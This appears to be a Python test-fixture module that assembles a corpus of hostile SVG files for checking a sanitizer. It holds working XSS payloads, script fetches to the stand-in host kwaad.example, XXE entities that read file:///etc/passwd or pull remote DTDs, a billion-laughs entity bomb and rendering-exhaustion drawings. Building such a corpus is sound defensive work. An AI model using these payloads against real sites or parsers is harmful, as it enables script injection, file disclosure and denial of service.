"""Drawings that do more than draw, or that keep a browser busy: each a whole file, by what it tries."""

import gzip

AWAY = "https://kwaad.example"  # whatever is asked there was let through
_SCRIPT = "document.title='KWAAD';fetch('https://kwaad.example/script')"
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def drawing(inside: str = "", attributes: str = 'viewBox="0 0 9 9" width="90" height="90"') -> bytes:
    """Write a drawing around something."""
    return f"<svg {_SVG} {attributes}>{inside}</svg>".encode()


def doubled(times: int, part: str, naming: str, last: str = '<rect width="1" height="1"/>') -> str:
    """Write parts that each draw the one before it ten times."""
    name = part.partition(" ")[0]
    insides = [last, *(naming.format(step - 1) * 10 for step in range(1, times))]
    steps = [f'<{part} id="a{step}">{inside}</{name}>' for step, inside in enumerate(insides)]
    return f"<defs>{''.join(steps)}</defs>"


_PATTERN = 'pattern width="9" height="9" patternUnits="userSpaceOnUse"'
_FILL = '<rect width="9" height="9" fill="url(#a{0})"/>'

# Inside the drawing: what runs a script.
_RUNNING = {
    "script": f"<script>{_SCRIPT}</script>",
    "script between CDATA": f"<script><![CDATA[{_SCRIPT}]]></script>",
    "script from elsewhere": f'<script href="{AWAY}/a.js"/>',
    "script from elsewhere, xlink": f'<script xlink:href="{AWAY}/a.js"/>',
    "script in data": f'<script href="data:text/javascript,{_SCRIPT}"/>',
    "script with a prefix": f'<s:script xmlns:s="http://www.w3.org/2000/svg">{_SCRIPT}</s:script>',
    "script of a web page": f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{_SCRIPT}</h:script>',
    "script in metadata": f"<metadata><script>{_SCRIPT}</script></metadata><set/>",
    "script in a title": f"<title><script>{_SCRIPT}</script></title>",
    "script in a description": f'<desc><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="{_SCRIPT}"/></desc>',
    "script in a choice": f"<switch><foreignObject/><script>{_SCRIPT}</script></switch>",
    "script in what is skipped": f"<flowRoot/><author><script>{_SCRIPT}</script></author>",
    "image of a web page": f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="{_SCRIPT}"/>',
    "web page in a drawing": f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="{_SCRIPT}"/></foreignObject>',
    "frame": f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}/"/></foreignObject>',
    "frame as a part": f'<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="{AWAY}/"/>',
    "form": f'<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="{AWAY}"><h:input/></h:form>',
    "object": f'<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="{AWAY}/"/>',
    "embed": f'<h:embed xmlns:h="http://www.w3.org/1999/xhtml" src="{AWAY}/"/>',
    "base of a web page": f'<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="{AWAY}/"/>',
    "meta refresh": f'<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={AWAY}/"/>',
    "link to a stylesheet": f'<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{AWAY}/a.css"/>',
    "video": f'<h:video xmlns:h="http://www.w3.org/1999/xhtml" src="{AWAY}/a.mp4"/>',
    "audio": f'<h:audio xmlns:h="http://www.w3.org/1999/xhtml" src="{AWAY}/a.mp3" autoplay=""/>',
    "mathematics": f'<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext href="javascript:{_SCRIPT}">x</m:mtext></m:math>',
    "handler": f'<rect width="9" height="9" onclick="{_SCRIPT}"/>',
    "handler in capitals": f'<rect width="9" height="9" ONLOAD="{_SCRIPT}"/>',
    "handler of focus": f'<g tabindex="0" autofocus="" onfocus="{_SCRIPT}"/>',
    "handler of an animation": f'<animate attributeName="x" dur="1s" onbegin="{_SCRIPT}"/>',
    "handler that no list knows yet": f'<rect width="9" height="9" onnieuw="{_SCRIPT}"/>',
    "listener": '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#a"/>',
    "link with a script": f'<a href="javascript:{_SCRIPT}"><rect width="9" height="9"/></a>',
    "link with a script, xlink": f'<a xlink:href="javascript:{_SCRIPT}"><rect width="9" height="9"/></a>',
    "link with a script, in pieces": '<a href="java&#10;script:alert(1)"><rect width="9" height="9"/></a>',
    "link with a page in data": '<a href="data:text/html,x"><rect width="9" height="9"/></a>',
    "link elsewhere": f'<a href="{AWAY}/"><rect width="9" height="9"/></a>',
    "link made by an animation": f'<a><animate attributeName="href" values="javascript:{_SCRIPT}"/><rect/></a>',
    "handler made by an animation": f'<rect><set attributeName="onclick" to="{_SCRIPT}"/></rect>',
    "script in xslt": '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
}

# What fetches something, from our own site too.
_FETCHING = {
    "picture": f'<image href="{AWAY}/a.png" width="9" height="9"/>',
    "picture, xlink": f'<image xlink:href="{AWAY}/a.png" width="9" height="9"/>',
    "picture beside it": '<image href="buur.png" width="9" height="9"/>',
    "picture in data": '<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>',
    "drawing in data": '<image href="data:image/svg+xml,%3Csvg/%3E" width="9" height="9"/>',
    "picture of a filter": f'<filter id="f"><feImage href="{AWAY}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "use of another file": f'<use href="{AWAY}/a.svg#a"/>',
    "use of another file, xlink": f'<use xlink:href="{AWAY}/a.svg#a"/>',
    "use of data": '<use href="data:image/svg+xml,x#a"/>',
    "use of a file beside it": '<use href="buur.svg#a"/>',
    "gradient of another file": f'<linearGradient id="g" href="{AWAY}/a.svg#a"/><rect width="9" height="9" fill="url(#g)"/>',
    "path of letters elsewhere": f'<text><textPath href="{AWAY}/a.svg#a">x</textPath></text>',
    "fill from elsewhere": f'<rect width="9" height="9" fill="url({AWAY}/a.svg#b)"/>',
    "fill from elsewhere, quoted": f'<rect width="9" height="9" fill="url(\'{AWAY}/a.svg#b\')"/>',
    "fill from elsewhere, escaped": f'<rect width="9" height="9" fill="\\75rl({AWAY}/a.svg#b)"/>',
    "mask from elsewhere": f'<rect width="9" height="9" mask="url({AWAY}/a.svg#b)"/>',
    "cut from elsewhere": f'<rect width="9" height="9" clip-path="url({AWAY}/a.svg#b)"/>',
    "filter from elsewhere": f'<rect width="9" height="9" filter="url({AWAY}/a.svg#b)"/>',
    "marker from elsewhere": f'<path d="M0 0h9" marker-end="url({AWAY}/a.svg#b)"/>',
    "cursor from elsewhere": f'<rect width="9" height="9" style="cursor:url({AWAY}/a.cur),auto"/>',
    "style: a background": f'<rect width="9" height="9" style="background:url({AWAY}/a)"/>',
    "style: a background, escaped": f'<rect style="background:\\75 rl({AWAY}/a)"/>',
    "style: an escaped letter": f'<rect style="fill:u\\72l({AWAY}/a.svg#b)"/>',
    "style: broken by a remark": f'<rect style="fill:/**/url({AWAY}/a.svg#b)"/>',
    "style: a remark that does not end": f'<rect style="fill:red;/* x; fill:url({AWAY}/a.svg#b)"/><image/>',
    "style: a set of pictures": f"<rect style=\"background:image-set('{AWAY}/a.png' 1x)\"/>",
    "style: a set of pictures, of webkit": f'<rect style="mask-image:-webkit-image-set(url({AWAY}/a.png) 1x)"/>',
    "style: a crossing of pictures": f'<rect style="background:cross-fade(url({AWAY}/a.png), red)"/>',
    "style: src()": f'<rect style="background:src(&quot;{AWAY}/a.png&quot;)"/>',
    "style: a name of its own": f'<rect style="--x:url({AWAY}/a.png);background:var(--x)"/>',
    "style: element()": '<rect style="background:element(#a)"/>',
    "style: expression()": '<rect style="width:expression(alert(1))"/>',
    "style: a binding": f'<rect style="-moz-binding:url({AWAY}/a.xml#b)"/>',
    "style: a behaviour": f'<rect style="behavior:url({AWAY}/a.htc)"/>',
    "style: letters from elsewhere": f"<style>@font-face{{font-family:x;src:url({AWAY}/a.woff)}}</style><text y='9' font-family='x'>x</text>",
    "style: letters in data": "<style>@font-face{font-family:x;src:url(data:font/woff,x)}</style><text y='9' font-family='x'>x</text>",
    "style: an import": f"<style>@import '{AWAY}/a.css';</style>",
    "style: an import, escaped": f"<style>@\\69mport '{AWAY}/a.css';</style>",
    "style: an import, in capitals": f"<style>@IMPORT url({AWAY}/a.css);</style>",
    "style: an import between CDATA": f"<style><![CDATA[@import '{AWAY}/a.css';]]></style>",
    "style: an import that does not end": f"<style>@import '{AWAY}/a.css'</style>",
    "style: an import behind a remark": f"<style>/* x */@import/**/'{AWAY}/a.css';</style>",
    "style: an import inside a condition": f"<style>@media all{{@import '{AWAY}/a.css';}}</style>",
    "style: an import on a layer": f"<style>@layer a;@import '{AWAY}/a.css' layer(a);</style>",
    "style: in two parts": f"<style>@imp</style><style>rect{{fill:url({AWAY}/a.svg#b)}}</style><rect width='9' height='9'/>",
    "style: what stands in an attribute": f'<style>rect[width^="9"]{{background:url({AWAY}/9)}}</style><rect width="9"/>',
    "style: nested": f"<style>g{{fill:red;rect{{fill:url({AWAY}/a.svg#b)}}}}</style><g><rect width='9' height='9'/></g>",
    "style: a namespace": f"<style>@namespace url({AWAY});rect{{fill:red}}</style>",
    "style: motion": "<style>@keyframes a{from{x:0}to{x:9}}rect{animation:a 1s infinite}</style><rect width='9' height='9'/>",
    "style: a cursor by a rule": f"<style>rect{{cursor:url({AWAY}/a.cur),auto}}</style><rect width='9' height='9'/>",
    "style of another type": f"<style type='text/css'>rect{{fill:URL( '{AWAY}/a.svg#b' )}}</style><rect width='9' height='9'/>",
    "style by presentation": f'<text y="9" font-family="x" fill="URL(&#34;{AWAY}/a.svg#b&#34;)">x</text>',
    "style with a quote that does not end": f'<rect style="font-family:\'x;fill:url({AWAY}/a.svg#b)"/>',
    "motion": '<rect width="9" height="9"><animate attributeName="x" from="0" to="9" dur="1s" repeatCount="indefinite"/></rect>',
    "include": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{AWAY}/a.svg"/>',
    "include of a file": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    "another base": f'<g xml:base="{AWAY}/"><use href="#a"/></g>',
    "letters of a web address": f'<text y="9" style="src:url({AWAY}/x)">x</text>',
}

# What asks too much of a browser.
_HEAVY = {
    "uses of uses": doubled(10, "g", '<use href="#a{0}"/>') + '<use href="#a9"/>',
    "uses of uses, xlink": doubled(10, "g", '<use xlink:href="#a{0}"/>') + '<use xlink:href="#a9"/>',
    "uses of symbols": doubled(10, "symbol", '<use href="#a{0}"/>') + '<use href="#a9"/>',
    "patterns of patterns": doubled(8, _PATTERN, _FILL) + _FILL.format(7),
    "patterns by style": doubled(8, _PATTERN, '<rect style="fill:url(#a{0})"/>') + '<rect style="fill:url(#a7)"/>',
    "masks of masks": doubled(8, "mask", '<rect width="9" height="9" mask="url(#a{0})"/>') + '<rect mask="url(#a7)"/>',
    "cuts of cuts": doubled(8, "clipPath", '<rect width="9" height="9" clip-path="url(#a{0})"/>')
    + '<rect clip-path="url(#a7)"/>',
    "markers of markers": doubled(
        6, 'marker markerWidth="9" markerHeight="9"', '<path d="M0 0L1 1L2 2L3 3" marker-mid="url(#a{0})"/>'
    )
    + '<path d="M0 0L1 1L2 2L3 3" marker-mid="url(#a5)"/>',
    "markers on a long line": '<marker id="m"><path d="M0 0h1"/></marker><g style="marker-mid:url(#m)">'
    + f'<path d="M0 0{"L1 1" * 90_000}"/>' * 4
    + "</g>",
    "pattern for each of a group": doubled(4, "g", '<use href="#a{0}"/>')
    + f'<{_PATTERN} id="p">{"<rect/>" * 900}</pattern><g fill="url(#p)"><use href="#a3"/></g>',
    "uses named by a rule": doubled(8, _PATTERN, '<rect class="c{0}" width="9" height="9"/>')
    + "<style>"
    + "".join(f".c{number}{{fill:url(#a{number})}}" for number in range(8))
    + '</style><rect class="c7" width="9" height="9"/>',
    "filters on all": '<filter id="f">'
    + "<feGaussianBlur stdDeviation='9'/>" * 50
    + "</filter>"
    + '<g filter="url(#f)"><rect/></g>' * 400,
    "noise": '<filter id="f"><feTurbulence numOctaves="999999999"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "convolution": '<filter id="f"><feConvolveMatrix order="9999"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "swelling": '<filter id="f"><feMorphology radius="99999999"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "light": '<filter id="f"><feSpecularLighting/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "tiles": '<filter id="f"><feTile/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "dashes": '<path d="M0 0H9e9" stroke="red" stroke-dasharray="0.0001"/>' * 2000,
    "dashes of a group": '<g style="stroke-dasharray:.0001 .1">' + '<path d="M0 0H9e9" stroke="red"/>' * 2000 + "</g>",
    "dashes by a rule": "<style>.a{stroke-dasharray:.0001}</style>"
    + '<path class="a" d="M0 0H9e9" stroke="red"/>' * 2000,
    "draws itself": '<g id="a"><use href="#a"/></g>',
    "pattern of itself": f'<{_PATTERN} id="a">{_FILL.format("").replace("#a", "#a")}</pattern><rect fill="url(#a)"/>',
    "in a ring": '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
    "very many": "<g>" + "<rect/>" * 110_000 + "</g>",
}

_INSIDE = {**_RUNNING, **_FETCHING, **_HEAVY}
_PLAIN = '<rect width="9" height="9"/>'
_XML = '<?xml version="1.0"?>'

# What is wrong around the drawing.
_WHOLE = {
    "handler on the drawing": drawing(_PLAIN, f'viewBox="0 0 9 9" onload="{_SCRIPT}"'),
    "handler behind a slash": drawing(_PLAIN).replace(b"<svg ", b'<svg\nonload="alert(1)"\n'),
    "stylesheet of the file": f'{_XML}<?xml-stylesheet href="{AWAY}/a.css"?>'.encode() + drawing(_PLAIN),
    "stylesheet of the file, xslt": f'{_XML}<?xml-stylesheet type="text/xsl" href="{AWAY}/a.xsl"?>'.encode()
    + drawing(_PLAIN),
    "stylesheet in data": f'{_XML}<?xml-stylesheet href="data:text/css,*{{background:url({AWAY}/x)}}"?>'.encode()
    + drawing(_PLAIN),
    "stylesheet behind the drawing": drawing(_PLAIN) + f'<?xml-stylesheet href="{AWAY}/a.css"?>'.encode(),
    "names for names": b'<!DOCTYPE svg [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>' + drawing("<text>&c;</text>"),
    "a billion laughs": (
        b'<!DOCTYPE svg [<!ENTITY a0 "x">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)).encode()
        + b"]>"
        + drawing("<text>&a9;</text>")
    ),
    "one long name": b'<!DOCTYPE svg [<!ENTITY a "' + b"x" * 9000 + b'">]>' + drawing(f"<text>{'&a;' * 9000}</text>"),
    "a name for a file": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + drawing("<text>&a;</text>"),
    "a name for a web address": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{AWAY}/a">]>'.encode()
    + drawing("<text>&a;</text>"),
    "a name for the heading": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{AWAY}/a.dtd">%a;]>'.encode() + drawing(_PLAIN),
    "a name that hides a script": b'<!DOCTYPE svg [<!ENTITY a "javascript:alert(1)">]>'
    + drawing('<a href="&a;"><rect/></a>'),
    "a default that hides a handler": b'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "alert(1)">]>' + drawing(_PLAIN),
    "a default that hides a link": f'<!DOCTYPE svg [<!ATTLIST use href CDATA "{AWAY}/a.svg#a">]>'.encode()
    + drawing("<use/>"),
    "in utf-7": b'<?xml version="1.0" encoding="UTF-7"?>'
    + drawing("+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script/>"),
    "in utf-16": drawing(f"<script>{_SCRIPT}</script>").decode().encode("utf-16"),
    "in an unknown encoding": b'<?xml version="1.0" encoding="x-geen"?>' + drawing(_PLAIN),
    "in an encoding of many bytes": b'<?xml version="1.0" encoding="shift_jis"?>' + drawing("<script/>"),
    "packed": gzip.compress(drawing(_PLAIN)),
    "a web page": f"<html><script>{_SCRIPT}</script></html>".encode(),
    "a web page behind a drawing": drawing(_PLAIN) + b"<html><script>alert(1)</script></html>",
    "letters before it": b"GIF89a" + drawing("<script/>"),
    "no namespace": b"<svg><rect/></svg>",
    "namespace of another": b'<svg xmlns="http://www.w3.org/1999/xhtml"><script/></svg>',
    "very deep": drawing("<g>" * 5000 + "</g>" * 5000),
    "very deep, in what is skipped": drawing("<metadata>" * 100_000 + "</metadata>" * 100_000),
    "cut off": drawing(_PLAIN)[:-4],
    "empty": b"",
    "nothing but zeros": b"\0" * 4096,
    "very long": b"<!--" + b"x" * 11_000_000 + b"-->" + drawing(_PLAIN),
}

HOSTILE = {**{name: drawing(inside) for name, inside in _INSIDE.items()}, **_WHOLE}
